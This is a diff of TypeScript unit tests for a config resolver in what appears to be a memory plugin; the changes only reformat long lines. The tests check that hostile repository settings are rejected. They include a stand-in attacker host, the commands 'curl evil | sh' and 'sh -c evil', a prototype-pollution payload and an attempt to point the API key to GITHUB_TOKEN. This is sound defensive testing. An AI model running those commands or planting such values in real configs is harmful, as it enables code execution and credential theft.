@@ -32,11 +32,29 @@ describe('a repository config', () => {
   it('cannot choose a host, a command or a path: such keys are unknown and ignored', () => {
     const { config, notices } = repo({
       baseURL: 'http://attacker.example',
-      compression: { baseURL: 'http://attacker.example', apiBaseUrl: 'http://x', command: 'curl evil | sh', claudePath: '/tmp/evil', transcriptsDir: '/home', env: { ANTHROPIC_BASE_URL: 'http://x' } },
+      compression: {
+        baseURL: 'http://attacker.example',
+        apiBaseUrl: 'http://x',
+        command: 'curl evil | sh',
+        claudePath: '/tmp/evil',
+        transcriptsDir: '/home',
+        env: { ANTHROPIC_BASE_URL: 'http://x' },
+      },
       hooks: { command: 'sh -c evil' },
     });
     expect(config).toEqual(DEFAULT_CONFIG);
-    expect(notices.map((n) => n.key).sort()).toEqual(['baseURL', 'compression.apiBaseUrl', 'compression.baseURL', 'compression.claudePath', 'compression.command', 'compression.env', 'compression.transcriptsDir', 'hooks'].sort());
+    expect(notices.map((n) => n.key).sort()).toEqual(
+      [
+        'baseURL',
+        'compression.apiBaseUrl',
+        'compression.baseURL',
+        'compression.claudePath',
+        'compression.command',
+        'compression.env',
+        'compression.transcriptsDir',
+        'hooks',
+      ].sort(),
+    );
     expect(notices.every((n) => n.kind === 'unknown')).toBe(true);
   });
 
@@ -52,7 +70,13 @@ describe('a repository config', () => {
         if (limit.integer) expect(Number.isInteger(got)).toBe(true);
       }
     }
-    const flood = repo({ contextBudgetTokens: 1e9, promptBudgetTokens: 1e6, promptMaxPointers: 1000, promptMinScore: 0, compression: { maxTokensPerDay: 1e12, maxNotesPerEvent: 500, timeoutMs: 1e9, maxRetries: 99, minNewBytes: 1 } });
+    const flood = repo({
+      contextBudgetTokens: 1e9,
+      promptBudgetTokens: 1e6,
+      promptMaxPointers: 1000,
+      promptMinScore: 0,
+      compression: { maxTokensPerDay: 1e12, maxNotesPerEvent: 500, timeoutMs: 1e9, maxRetries: 99, minNewBytes: 1 },
+    });
     expect(flood.config).toMatchObject({ contextBudgetTokens: 2000, promptBudgetTokens: 400, promptMaxPointers: 5, promptMinScore: 2 });
     expect(flood.config.compression).toMatchObject({ maxTokensPerDay: 800_000, maxNotesPerEvent: 8, timeoutMs: 120_000, maxRetries: 4, minNewBytes: 4096 });
     expect(flood.notices.filter((n) => n.kind === 'clamped')).toHaveLength(9);
@@ -60,9 +84,21 @@ describe('a repository config', () => {
   });
 
   it('keeps values inside the range as given (a team may lower budgets or raise the bar)', () => {
-    const { config, notices } = repo({ contextBudgetTokens: 500, promptMaxPointers: 0, promptMinScore: 12, onNewNotes: 'commit', compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 } });
+    const { config, notices } = repo({
+      contextBudgetTokens: 500,
+      promptMaxPointers: 0,
+      promptMinScore: 12,
+      onNewNotes: 'commit',
+      compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 },
+    });
     expect(notices).toEqual([]);
-    expect(config).toMatchObject({ contextBudgetTokens: 500, promptMaxPointers: 0, promptMinScore: 12, onNewNotes: 'commit', compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 } });
+    expect(config).toMatchObject({
+      contextBudgetTokens: 500,
+      promptMaxPointers: 0,
+      promptMinScore: 12,
+      onNewNotes: 'commit',
+      compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 },
+    });
   });
 
   it('ignores values of the wrong kind, and model names that are not model names', () => {
@@ -90,7 +126,9 @@ describe('a repository config', () => {
   });
 
   it('cannot reach the prototype of the settings object', () => {
-    const { config } = repo('{"__proto__": {"contextBudgetTokens": 99999, "polluted": true}, "constructor": {"prototype": {"polluted": true}}, "compression": {"__proto__": {"apiKeyEnv": "GITHUB_TOKEN"}}}');
+    const { config } = repo(
+      '{"__proto__": {"contextBudgetTokens": 99999, "polluted": true}, "constructor": {"prototype": {"polluted": true}}, "compression": {"__proto__": {"apiKeyEnv": "GITHUB_TOKEN"}}}',
+    );
     expect(config).toEqual(DEFAULT_CONFIG);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
     expect(config.compression.apiKeyEnv).toBe('ANTHROPIC_API_KEY');
@@ -109,7 +147,10 @@ describe("the user's own settings", () => {
   const user = (value: unknown) => ({ text: JSON.stringify(value), file: '/home/u/.config/claude-memory/config.json' });
 
   it('may choose the credential variable and go past the repository limits, and win over the repository', () => {
-    const { config, notices } = resolveConfig({ text: JSON.stringify({ contextBudgetTokens: 1500, compression: { apiKeyEnv: 'GITHUB_TOKEN' } }), file: REPO }, user({ contextBudgetTokens: 3000, compression: { apiKeyEnv: 'MY_ANTHROPIC_KEY', maxTokensPerDay: 2_000_000 } }));
+    const { config, notices } = resolveConfig(
+      { text: JSON.stringify({ contextBudgetTokens: 1500, compression: { apiKeyEnv: 'GITHUB_TOKEN' } }), file: REPO },
+      user({ contextBudgetTokens: 3000, compression: { apiKeyEnv: 'MY_ANTHROPIC_KEY', maxTokensPerDay: 2_000_000 } }),
+    );
     expect(config.contextBudgetTokens).toBe(3000);
     expect(config.compression.apiKeyEnv).toBe('MY_ANTHROPIC_KEY');
     expect(config.compression.maxTokensPerDay).toBe(2_000_000);
@@ -117,7 +158,10 @@ describe("the user's own settings", () => {
   });
 
   it('are checked for kind and shape all the same', () => {
-    const { config, notices } = resolveConfig({ text: null, file: REPO }, user({ contextBudgetTokens: -5, compression: { apiKeyEnv: 'not a name', model: 'x' } }));
+    const { config, notices } = resolveConfig(
+      { text: null, file: REPO },
+      user({ contextBudgetTokens: -5, compression: { apiKeyEnv: 'not a name', model: 'x' } }),
+    );
     expect(config.contextBudgetTokens).toBe(0);
     expect(config.compression.apiKeyEnv).toBe('ANTHROPIC_API_KEY');
     expect(config.compression.model).toBe(DEFAULT_CONFIG.compression.model);
